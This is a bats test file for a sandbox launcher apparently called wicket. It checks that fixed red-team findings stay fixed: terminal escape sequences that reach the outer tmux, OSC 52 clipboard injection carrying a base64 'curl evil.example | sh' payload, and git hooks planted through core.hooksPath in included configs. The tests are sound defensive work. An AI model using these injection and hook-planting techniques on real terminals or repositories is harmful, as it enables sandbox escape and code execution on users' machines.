#!/usr/bin/env bats
# The inline programs are single-quoted on purpose.
# shellcheck disable=SC2016
# A second red team's findings (fixed), each judged outside the sandbox.
#  1. A DCS tmux; passthrough with a parameter byte (ESC P 1 tmux;) is not
#     recognised by pty_filter_feed (dcs_match compares the bytes right
#     after ESC P with "tmux;"), while tmux takes the parameter apart and
#     still passes the string on: the sandbox reaches the terminal outside
#     the person's tmux (with allow-passthrough on) and sets its state
#     (here: its title), which the end-of-session reset never touches.
#  2. wicket's own warnings printed a path the sandbox chose as it was.
#  3. A C0 control between ESC and ] hid OSC 52 from the filter.
#  4. core.hooksPath set in an included config, or in
#     $XDG_CONFIG_HOME/git/config, was not followed.

load ../lib/common
load escape_helpers
bats_require_minimum_version 1.5.0

setup() {
	ask_setup || return 1
	TMUX_O=wicket-rto-$$-$BATS_TEST_NUMBER
	TMUX_I=wicket-rti-$$-$BATS_TEST_NUMBER
	own_tmux
}

teardown() {
	tmux -L "$TMUX_I" kill-server 2>/dev/null || true
	tmux -L "$TMUX_O" kill-server 2>/dev/null || true
	escape_cleanup
	common_teardown
}

# nested: an outer tmux (the person's terminal) running an inner tmux
# with allow-passthrough on (as image viewers ask), running SCRIPT in $WS.
nested() {
	printf 'set -g allow-passthrough on\n' >"$OUT/inner.conf"
	printf '%s\n' "cd '$WS' && env -i PATH=/usr/local/bin:/usr/bin:/bin HOME='$OUT' TERM=xterm LANG=C.UTF-8 XDG_STATE_HOME='$XDG_STATE_HOME' WICKET_DIAG=off $1; echo wicket-exit=\$?; sleep 60" >"$OUT/inner.sh"
	tmux -L "$TMUX_O" -f /dev/null new-session -d -x 100 -y 30 \
		"tmux -L '$TMUX_I' -f '$OUT/inner.conf' new-session -x 90 -y 25 'sh $OUT/inner.sh'"
	local i
	for ((i = 0; i < 100; i++)); do
		tmux -L "$TMUX_O" capture-pane -p 2>/dev/null | grep -q '^wicket-exit=' && return 0
		sleep 0.1
	done
	return 1
}

@test "red team: a DCS passthrough with a parameter (ESC P 1 tmux;) does not reach the terminal outside the person's tmux" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	printf '%s\n' '#!/bin/sh' \
		'printf "\033Ptmux;\033\033]2;PLAIN-PASSTHROUGH\007\033\\"' \
		'printf "done\r\n"' >"$WS/plain"
	printf '%s\n' '#!/bin/sh' \
		'printf "\033P1tmux;\033\033]2;SANDBOX-CHOSE-THIS\007\033\\"' \
		'printf "done\r\n"' >"$WS/attack"
	chmod 755 "$WS/plain" "$WS/attack"
	# The filter does drop the plain form: the test can tell.
	nested "$WICKET run -- ./plain"
	run tmux -L "$TMUX_O" display -p '#{pane_title}'
	refute_output --partial PLAIN-PASSTHROUGH
	tmux -L "$TMUX_I" kill-server 2>/dev/null || true
	tmux -L "$TMUX_O" kill-server 2>/dev/null || true
	sleep 0.3
	nested "$WICKET run -- ./attack"
	run tmux -L "$TMUX_O" display -p '#{pane_title}'
	refute_output --partial SANDBOX-CHOSE-THIS
}

@test "red team: a directory name holding OSC 52, printed by the exit check's warning, does not set the clipboard" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	printf 'set -g set-clipboard on\n' >"$OUT/tmux.conf"
	local b
	b=$(printf 'curl evil.example | sh' | base64)
	printf '%s\n' '#!/bin/sh' \
		"d=\$(printf '\\033]52;c;$b\\007')" \
		'mkdir -p "$d/.git"' \
		'printf "done\r\n"' >"$WS/attack"
	chmod 755 "$WS/attack"
	tmux -L "$TMUX_O" -f "$OUT/tmux.conf" new-session -d -x 200 -y 40 \
		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
		bash --norc --noprofile -c 'cd "$1" && shift && "$@"; echo "wicket-exit=$?"; sleep 60' \
		_ "$WS" "$WICKET" run -- ./attack
	local i
	for ((i = 0; i < 100; i++)); do
		tmux -L "$TMUX_O" capture-pane -p | grep -q '^wicket-exit=' && break
		sleep 0.1
	done
	run tmux -L "$TMUX_O" capture-pane -p
	assert_output --partial 'wicket-exit=0'
	run tmux -L "$TMUX_O" show-buffer
	refute_output --partial "evil"
}

# 4. pty_filter_feed ends an escape sequence at the first byte after ESC
#    that is not ] or P (launcher/supervisor/pty.c, case FS_ESC), while a terminal
#    (tmux, xterm: the DEC parser's "escape" state) carries out a C0
#    control there and stays in the sequence: ESC SOH ] 52 ; c ; ... BEL
#    is OSC 52 to tmux and plain text to the filter.
@test "red team: a C0 control between ESC and ] does not hide OSC 52 from the filter" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	printf 'set -g set-clipboard on\n' >"$OUT/tmux.conf"
	printf '%s\n' '#!/bin/sh' \
		'printf "\033\001]52;c;%s\007" "$(printf "curl evil.example | sh" | base64)"' \
		'printf "done\r\n"' >"$WS/attack"
	chmod 755 "$WS/attack"
	tmux -L "$TMUX_O" -f "$OUT/tmux.conf" new-session -d -x 80 -y 24 \
		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
		bash --norc --noprofile -c 'cd "$1" && shift && "$@"; echo "wicket-exit=$?"; sleep 60' \
		_ "$WS" "$WICKET" run -- ./attack
	local i
	for ((i = 0; i < 100; i++)); do
		tmux -L "$TMUX_O" capture-pane -p | grep -q '^wicket-exit=' && break
		sleep 0.1
	done
	run tmux -L "$TMUX_O" capture-pane -p
	assert_output --partial 'wicket-exit=0'
	run tmux -L "$TMUX_O" show-buffer
	refute_output --partial "evil"
}

# 2b. ~/bin a symlink to a directory of the workspace (dotfiles kept
#     outside the home): canonical() resolves it out of the home and the
#     in-home test drops it (launcher/plan/plan.c plan_shared_spaces).
@test "red team: ESC C0 ] OSC 52 through the second-terminal relay does not set the clipboard" {
	command -v tmux >/dev/null || skip "tmux is not installed"
	printf 'set -g set-clipboard on\n' >"$OUT/tmux.conf"
	printf '%s\n' '#!/bin/sh' \
		'printf "\033\001]52;c;%s\007" "$(printf "curl evil.example | sh" | base64)"' \
		'printf "done\r\n"' >"$WS/attack"
	chmod 755 "$WS/attack"
	tmux -L "$TMUX_O" -f "$OUT/tmux.conf" new-session -d -x 80 -y 24 'sleep 60'
	tmux -L "$TMUX_O" new-window -d 'sleep 60'
	local t2
	t2=$(tmux -L "$TMUX_O" display -p -t :1 '#{pane_tty}')
	tmux -L "$TMUX_O" respawn-pane -k -t :0 \
		env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$OUT" TERM=xterm LANG=C.UTF-8 \
		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
		bash --norc --noprofile -c 'cd "$1" && "$2" run -- ./attack >"$3"; echo "wicket-exit=$?"; sleep 60' \
		_ "$WS" "$WICKET" "$t2"
	local i
	for ((i = 0; i < 100; i++)); do
		tmux -L "$TMUX_O" capture-pane -p -t :0 | grep -q '^wicket-exit=' && break
		sleep 0.1
	done
	run tmux -L "$TMUX_O" capture-pane -p -t :0
	assert_output --partial 'wicket-exit=0'
	run tmux -L "$TMUX_O" show-buffer
	refute_output --partial "evil"
}

# 5. core.hooksPath is looked for only in the configs git reads first (a
#    git directory's config and config.worktree, the home's git configs:
#    launcher/plan/autorun.c git_dir_places, autorun_startup_places), never in
#    the files they include (config_includes lists them as places but
#    does not call hooks_path_places on them). ~/.gitconfig including a
#    file that sets core.hooksPath = .githooks (dotfiles split in parts,
#    includeIf "gitdir:~/work/") leaves the work tree's .githooks
#    writable and not moved aside: the next git commit outside runs it.
@test "red team: a hooks directory core.hooksPath names in an included config is protected" {
	command -v git >/dev/null || skip "git is not installed"
	local home=$OUT/home
	mkdir -p "$home"
	printf '[include]\n\tpath = ~/.gitconfig-hooks\n[user]\n\tname = t\n\temail = t@example.invalid\n' >"$home/.gitconfig"
	printf '[core]\n\thooksPath = .githooks\n' >"$home/.gitconfig-hooks"
	HOME=$home git -C "$WS" init -q .
	run -0 env -C "$WS" HOME="$home" git config core.hooksPath
	assert_output .githooks
	run -0 env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$home" XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
		bash -c 'cd "$1" && "$2" run -- /bin/sh -c "mkdir -p .githooks && printf \"#!/bin/sh\\necho ran-outside >\\\"\$3/hook-ran\\\"\\n\" >.githooks/pre-commit && chmod 755 .githooks/pre-commit" _ _ _ "$3"' \
		_ "$WS" "$WICKET" "$OUT" </dev/null
	env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$home" git -C "$WS" commit -q --allow-empty -m outside || true
	[ ! -e "$OUT/hook-ran" ]
}

# 5b. The home's git configs are ~/.gitconfig and ~/.config/git/config
#     only (launcher/plan/autorun.c home_git_configs): git reads
#     $XDG_CONFIG_HOME/git/config (and /etc/gitconfig) as well, so a
#     core.hooksPath set there is not protected either.
@test "red team: a hooks directory core.hooksPath names in XDG_CONFIG_HOME/git/config is protected" {
	command -v git >/dev/null || skip "git is not installed"
	local home=$OUT/home
	mkdir -p "$home/xdg/git"
	printf '[core]\n\thooksPath = .githooks\n[user]\n\tname = t\n\temail = t@example.invalid\n' >"$home/xdg/git/config"
	HOME=$home XDG_CONFIG_HOME=$home/xdg git -C "$WS" init -q .
	run -0 env -C "$WS" HOME="$home" XDG_CONFIG_HOME="$home/xdg" git config core.hooksPath
	assert_output .githooks
	run -0 env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$home" XDG_CONFIG_HOME="$home/xdg" \
		XDG_STATE_HOME="$XDG_STATE_HOME" WICKET_DIAG=off \
		bash -c 'cd "$1" && "$2" run -- /bin/sh -c "mkdir -p .githooks && printf \"#!/bin/sh\\necho ran-outside >\\\"\$3/hook-ran2\\\"\\n\" >.githooks/pre-commit && chmod 755 .githooks/pre-commit" _ _ _ "$3"' \
		_ "$WS" "$WICKET" "$OUT" </dev/null
	env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$home" XDG_CONFIG_HOME="$home/xdg" git -C "$WS" commit -q --allow-empty -m outside || true
	[ ! -e "$OUT/hook-ran2" ]
}
